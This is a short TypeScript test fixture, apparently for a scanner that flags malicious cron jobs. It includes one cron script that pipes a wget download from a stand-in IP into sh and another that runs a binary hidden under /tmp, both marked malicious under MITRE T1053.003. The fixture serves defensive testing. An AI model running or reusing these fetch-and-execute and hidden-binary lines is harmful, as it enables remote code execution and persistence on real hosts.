import { type Pair, script } from './pair.ts';

export const pair: Pair = {
  packaged: { '/etc/cron.daily/logrotate': script('/usr/sbin/logrotate /etc/logrotate.conf') },
  tree: {
    '/etc/cron.hourly/sync': script('wget -qO- http://203.0.113.8/s | sh'),
    '/etc/cron.daily/dump': script('pg_dumpall | zstd > /srv/backup/all.sql.zst'),
    '/etc/periodic/hourly/m': script('/tmp/.X0-unix/m &'),
  },
  blamed: [
    { path: '/etc/cron.hourly/sync', verdict: 'malicious', code: 'fetch-pipe-shell', attack: 'T1053.003' },
    { path: '/etc/periodic/hourly/m', verdict: 'malicious', code: 'hidden-path', attack: 'T1053.003' },
  ],
  passed: ['/etc/cron.daily/logrotate', '/etc/cron.daily/dump'],
};
